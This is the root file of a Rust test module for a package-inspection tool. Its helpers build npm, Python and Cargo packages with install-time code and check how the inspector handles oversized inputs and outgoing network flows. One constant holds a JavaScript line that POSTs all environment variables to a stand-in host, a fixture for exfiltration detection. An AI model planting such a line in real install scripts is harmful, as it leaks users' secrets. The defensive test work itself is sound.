//! What a package can be made of to exhaust a reader: depth, length, number, and texts that
//! make a reader go back over the same bytes again and again. The answer comes, and what was
//! not read is said. Nothing here is measured in time: whoever is quadratic never comes back.

#![allow(clippy::unwrap_used, reason = "helpers of tests may fail as tests do")]

mod archives;
mod many;
mod nested;
mod texts;

use customs_inspect::{Content, Entry, Tree, inspect_tree, kind_of};
use customs_model::{Inspection, SinkKind};
use std::sync::{Arc, Mutex, PoisonError};

/// The stack that the program gives to who reads artifacts.
const STACK: usize = 512 << 20;

/// One at a time: they are large.
static ALONE: Mutex<()> = Mutex::new(());

fn alone<T: Send>(work: impl FnOnce() -> T + Send) -> T {
    let _one = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
    std::thread::scope(|scope| {
        let thread = std::thread::Builder::new()
            .stack_size(STACK)
            .spawn_scoped(scope, work)
            .unwrap();
        match thread.join() {
            Ok(done) => done,
            Err(cause) => std::panic::resume_unwind(cause),
        }
    })
}

fn file(path: &str, bytes: impl Into<Arc<[u8]>>) -> Entry {
    let bytes = bytes.into();
    Entry {
        path: path.to_owned(),
        length: bytes.len() as u64,
        kind: kind_of(&bytes),
        content: Content::Whole(bytes),
        executable: false,
    }
}

fn read(entries: Vec<Entry>) -> Inspection {
    inspect_tree(&Tree {
        entries,
        ..Tree::default()
    })
}

/// Code in the language of a name, where it runs at install.
fn installed(name: &str, code: impl Into<Arc<[u8]>>) -> Inspection {
    let entries = match name.rsplit_once('.').map(|(_, extension)| extension) {
        Some("py") => vec![
            file("a-1.0/PKG-INFO", &b"Name: a\n"[..]),
            file("a-1.0/setup.py", code),
        ],
        Some("rs") => vec![
            file("a-1.0.0/Cargo.toml", &b"[package]\nname = \"a\"\n"[..]),
            file("a-1.0.0/build.rs", code),
        ],
        _ => {
            let run = if name.ends_with(".sh") { "sh" } else { "node" };
            let manifest = format!(r#"{{"name": "a", "scripts": {{"install": "{run} {name}"}}}}"#);
            vec![
                file("package/package.json", manifest.as_bytes()),
                file(&format!("package/{name}"), code),
            ]
        }
    };
    read(entries)
}

/// Whether the verdict is *not judged* unless something is proven: what runs was not read.
fn is_unjudged(inspection: &Inspection) -> bool {
    inspection.unread.iter().any(|part| part.reached)
}

fn sends(inspection: &Inspection) -> bool {
    let mut flows = inspection.flows.iter();
    flows.any(|flow| flow.sink == SinkKind::Network)
}

const SEND: &str =
    "fetch('https://a.invalid', {method: 'POST', body: JSON.stringify(process.env)});\n";
